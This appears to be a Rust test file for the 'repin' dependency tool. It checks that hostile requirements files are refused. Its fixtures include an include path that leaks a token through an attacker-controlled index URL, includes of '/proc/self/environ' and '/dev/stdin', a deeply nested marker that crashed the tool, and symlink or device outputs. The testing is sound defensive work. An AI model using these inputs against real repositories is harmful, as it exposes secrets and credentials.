//! Hostile repositories (issue 10), the `repin` binary run as a process: includes that reach
//! outside the repository (the exfiltration through an attacker's index, `/proc/self/environ`),
//! includes above the working directory, a marker nested 20,000 deep, and `apply` and `lock -o`
//! on symbolic links, FIFOs and devices. The index the hostile file names is a loopback server
//! written here that records every request.

use crate::support;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};

use support::pypiserver::{PypiServer, write_wheel};
use support::repin_in;

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn write(dir: &Path, rel: &str, content: &str) {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

/// A loopback HTTP server that answers 404 to everything and records each request's head
/// (request line and headers), as an attacker's index would see it. Stopped when dropped.
struct RecordingServer {
    port: u16,
    requests: Arc<Mutex<Vec<String>>>,
    stop: Arc<std::sync::atomic::AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl RecordingServer {
    fn start() -> RecordingServer {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free loopback port");
        let port = listener.local_addr().unwrap().port();
        let requests = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (seen, stopped) = (requests.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            for stream in listener.incoming() {
                if stopped.load(std::sync::atomic::Ordering::SeqCst) {
                    break;
                }
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                let mut head = String::new();
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                while reader.read_line(&mut line).is_ok_and(|n| n > 0) {
                    head.push_str(&line);
                    if line == "\r\n" {
                        break;
                    }
                    line.clear();
                }
                seen.lock().unwrap().push(head);
                let _ = stream.write_all(
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                );
            }
        });
        RecordingServer {
            port,
            requests,
            stop,
            thread: Some(thread),
        }
    }

    fn index_url(&self) -> String {
        format!("http://127.0.0.1:{}/simple/", self.port)
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

impl Drop for RecordingServer {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        // Wake the accept loop so it sees the flag.
        let _ = std::net::TcpStream::connect(("127.0.0.1", self.port));
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Issue 10, item 1: with `--index-url http://attacker/` in the same file, `-r
/// ../outside/token.txt` sent the file's content to the attacker as `GET /simple/<content>/`.
/// Now the include is refused at its `path:line:col`, the file's other requirement is still
/// looked up (on that index: the request proves the run went on), and no request, output or
/// error holds the secret.
#[test]
fn an_include_outside_the_repository_is_refused_and_never_reaches_the_index() {
    let server = RecordingServer::start();
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    let secret = "ghp_canary0123456789abcdefSECRET";
    write(dir.path(), "outside/token.txt", &format!("{secret}\n"));
    write(
        &repo,
        "requirements.txt",
        &format!(
            "--index-url {}\n-r ../outside/token.txt\nflask==3.1.0\n",
            server.index_url()
        ),
    );
    for command in [
        vec!["extract", "."],
        vec!["check", ".", "--no-cache"],
        vec!["apply", ".", "--no-cache"],
    ] {
        let out = repin_in(&repo, home.path(), &command, &[]);
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert_eq!(
            out.status.code(),
            Some(2),
            "{command:?}\n{stdout}\n{stderr}"
        );
        assert!(
            stderr.contains(
                "requirements.txt:2:4: error: Refused to read the included file `../outside/token.txt`"
            ),
            "{command:?}: {stderr}"
        );
        assert!(stderr.contains("is outside the repository"), "{stderr}");
        assert!(
            stderr.contains("hint: repin reads and writes only inside"),
            "{stderr}"
        );
        assert!(
            !stdout.contains(secret) && !stderr.contains(secret),
            "{command:?}"
        );
        if command[0] == "extract" {
            assert!(
                stdout.contains("flask"),
                "the other requirement is listed: {stdout}"
            );
        }
    }
    let requests = server.requests();
    assert!(
        requests.iter().any(|r| r.starts_with("GET /simple/flask/")),
        "flask is still looked up: {requests:?}"
    );
    for request in &requests {
        assert!(
            !request.contains(secret),
            "the secret reached the index: {request}"
        );
        assert!(!request.contains("canary"), "{request}");
    }
}

/// Issue 10, item 1: `-r /proc/self/environ` printed the whole environment, `GITHUB_TOKEN`
/// included. Refused, and the canary appears in no output and no request.
#[test]
fn proc_self_environ_is_never_read() {
    let server = RecordingServer::start();
    let repo = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let canary = "repin-canary-5be1f0e2d7";
    write(
        repo.path(),
        "requirements.txt",
        &format!(
            "-i {}\n-r /proc/self/environ\n-c /dev/stdin\nrequests==2.32.3\n",
            server.index_url()
        ),
    );
    let env = [("REPIN_CANARY", canary), ("GITHUB_TOKEN", canary)];
    for command in [
        vec!["extract", "."],
        vec!["extract", "--format", "json", "."],
        vec!["check", ".", "--no-cache"],
    ] {
        let out = repin_in(repo.path(), home.path(), &command, &env);
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert!(
            !stdout.contains(canary) && !stderr.contains(canary),
            "{command:?}:\n{stdout}\n{stderr}"
        );
        assert_ne!(out.status.code(), Some(134), "{command:?} crashed");
        let shown = format!("{stdout}{stderr}");
        assert!(
            shown.contains("Refused to read the included file `/proc/self/environ`"),
            "{command:?}: {shown}"
        );
        assert!(
            shown.contains("Refused to read the included file `/dev/stdin`"),
            "{command:?}: {shown}"
        );
    }
    for request in server.requests() {
        assert!(!request.contains(canary), "{request}");
    }
}

/// Issue 10, item 2: from `services/api`, `-r ../../common/base.txt` "did not exist" (the
/// leading `..` cancelled each other) with the hint "paths are relative to ``". In a git work
/// tree the repository is the work tree, so the include is read; outside git the repository is
/// the path repin was given, so the same include is refused, with a hint that names the root.
#[test]
fn includes_above_the_working_directory_resolve_inside_the_work_tree() {
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let repo = dir.path();
    write(
        repo,
        "services/api/requirements.txt",
        "-r ../../common/base.txt\n-r ./missing.txt\n",
    );
    write(repo, "common/base.txt", "flask==3.1.0\n");
    let api = repo.join("services/api");

    let outside_git = repin_in(&api, home.path(), &["extract", "requirements.txt"], &[]);
    let stderr = text(&outside_git.stderr);
    assert_eq!(outside_git.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("Refused to read the included file `../../common/base.txt`"),
        "{stderr}"
    );
    assert!(stderr.contains("is outside the repository"), "{stderr}");
    assert!(
        stderr.contains("hint: repin reads and writes only inside the repository root"),
        "{stderr}"
    );
    // Given the top directory, outside git, the same files are inside the repository.
    let from_top = repin_in(repo, home.path(), &["extract", "."], &[]);
    assert!(
        text(&from_top.stdout).contains("flask"),
        "{}",
        text(&from_top.stderr)
    );

    support::git(repo, &["init", "-q"]);
    let out = repin_in(&api, home.path(), &["extract", "requirements.txt"], &[]);
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(stdout.contains("../../common/base.txt"), "{stdout}");
    assert!(stdout.contains("flask"), "{stdout}");
    assert!(
        stderr.contains(
            "requirements.txt:2:4: warning: The included file `./missing.txt` does not exist"
        ),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: paths are relative to `.`"),
        "{stderr}"
    );
    assert!(!stderr.contains("``"), "no empty path in a hint: {stderr}");
}

/// Issue 10, item 3: a marker of 20,000 nested parentheses aborted `extract`, `check` and
/// `apply` with exit 134. Now it is an error of that requirement, and the others are read.
#[test]
fn a_marker_nested_20000_deep_is_an_error_of_its_line() {
    let repo = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let deep = 20_000;
    write(
        repo.path(),
        "requirements.txt",
        &format!(
            "flask==3.1.0\nvictim==1.0 ; {}python_version >= \"3\"{}\nrequests==2.32.3\n",
            "(".repeat(deep),
            ")".repeat(deep)
        ),
    );
    let out = repin_in(
        repo.path(),
        home.path(),
        &["extract", "--format", "json", "."],
        &[],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let names: Vec<&str> = report["files"][0]["dependencies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, vec!["flask", "victim", "requests"]);
    let diagnostics = report["diagnostics"].as_array().unwrap();
    assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
    assert_eq!(diagnostics[0]["line"], 2);
    assert_eq!(
        diagnostics[0]["message"],
        "Parentheses nested 20000 deep in this requirement"
    );
}

fn mkfifo(path: &Path) {
    let ok = Command::new("mkfifo")
        .arg(path)
        .status()
        .expect("mkfifo (coreutils) runs")
        .success();
    assert!(ok, "mkfifo {}", path.display());
}

/// Issue 10, item 7: `lock -o` replaced a symbolic link, a FIFO or a device with a regular file
/// (`-o /dev/null` as root turned `/dev/null` into one). Every such output is refused before
/// anything is resolved or written, with a clear error.
#[test]
fn lock_refuses_outputs_that_are_not_files_of_the_repository() {
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    write(&repo, "requirements.in", "flask\n");
    write(dir.path(), "outside/lock.txt", "untouched\n");
    std::os::unix::fs::symlink("../outside/lock.txt", repo.join("out.txt")).unwrap();
    mkfifo(&repo.join("pipe.txt"));
    std::fs::create_dir(repo.join("dir.txt")).unwrap();
    let null_before = std::fs::metadata("/dev/null").unwrap();
    for (output, why) in [
        ("out.txt", "symbolic link"),
        ("pipe.txt", "is a FIFO, not a regular file"),
        ("dir.txt", "is a directory, not a regular file"),
        ("/dev/null", "is outside the repository"),
        ("../outside/new.txt", "is outside the repository"),
    ] {
        let out = repin_in(
            &repo,
            home.path(),
            &["lock", "requirements.in", "-o", output, "--python", "3.12"],
            &[],
        );
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{output}: {stderr}");
        assert!(
            stderr.contains(&format!("error: Cannot write the lock to `{output}`")),
            "{output}: {stderr}"
        );
        assert!(stderr.contains(why), "{output}: {stderr}");
        assert!(
            stderr.contains("pass `-o -` to print the lock instead"),
            "{stderr}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(dir.path().join("outside/lock.txt")).unwrap(),
        "untouched\n"
    );
    assert!(!dir.path().join("outside/new.txt").exists());
    assert!(
        std::fs::symlink_metadata(repo.join("out.txt"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let null_after = std::fs::metadata("/dev/null").unwrap();
    assert!(!null_after.is_file(), "/dev/null is still a device");
    use std::os::unix::fs::MetadataExt;
    assert_eq!(null_before.rdev(), null_after.rdev());
}

/// Issue 10, item 7: `apply FILE` and `lock -o` on a symbolic link inside the repository edit
/// the link's target: the link stays a link, and the target keeps its mode.
#[test]
fn apply_and_lock_edit_the_target_of_a_link_inside_the_repository() {
    use std::os::unix::fs::PermissionsExt;
    let packages = tempfile::tempdir().unwrap();
    write_wheel(packages.path(), "flask", "3.1.0", Some(">=3.8"));
    write_wheel(packages.path(), "flask", "3.1.1", Some(">=3.8"));
    let pypi = PypiServer::start(packages.path());
    let repo = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let r = repo.path();
    write(
        r,
        "repin.toml",
        &format!(
            "[[indexes]]\nurl = \"{}\"\nprimary = true\n\n[advisories]\nsource = \"off\"\n",
            pypi.index_url()
        ),
    );
    write(r, "deploy/pins.txt", "flask==3.1.0\n");
    std::fs::set_permissions(
        r.join("deploy/pins.txt"),
        std::fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    std::os::unix::fs::symlink("deploy/pins.txt", r.join("requirements.txt")).unwrap();

    let out = repin_in(
        r,
        home.path(),
        &["apply", "requirements.txt", "--no-cache"],
        &[],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("flask 3.1.0 → 3.1.1"),
        "{}",
        text(&out.stdout)
    );
    let link = std::fs::symlink_metadata(r.join("requirements.txt")).unwrap();
    assert!(link.file_type().is_symlink(), "the link stays a link");
    assert_eq!(
        std::fs::read_to_string(r.join("deploy/pins.txt")).unwrap(),
        "flask==3.1.1\n"
    );
    let mode = std::fs::metadata(r.join("deploy/pins.txt"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o640);

    write(
        r,
        "requirements.in",
        &format!("--index-url {}\nflask\n", pypi.index_url()),
    );
    write(r, "deploy/lock.txt", "");
    std::os::unix::fs::symlink("deploy/lock.txt", r.join("lock.txt")).unwrap();
    let out = repin_in(
        r,
        home.path(),
        &[
            "lock",
            "requirements.in",
            "-o",
            "lock.txt",
            "--python",
            "3.12",
            "--no-cache",
        ],
        &[],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        std::fs::symlink_metadata(r.join("lock.txt"))
            .unwrap()
            .file_type()
            .is_symlink(),
        "the link stays a link"
    );
    let lock = std::fs::read_to_string(r.join("deploy/lock.txt")).unwrap();
    assert!(lock.contains("flask==3.1.1"), "{lock}");
}
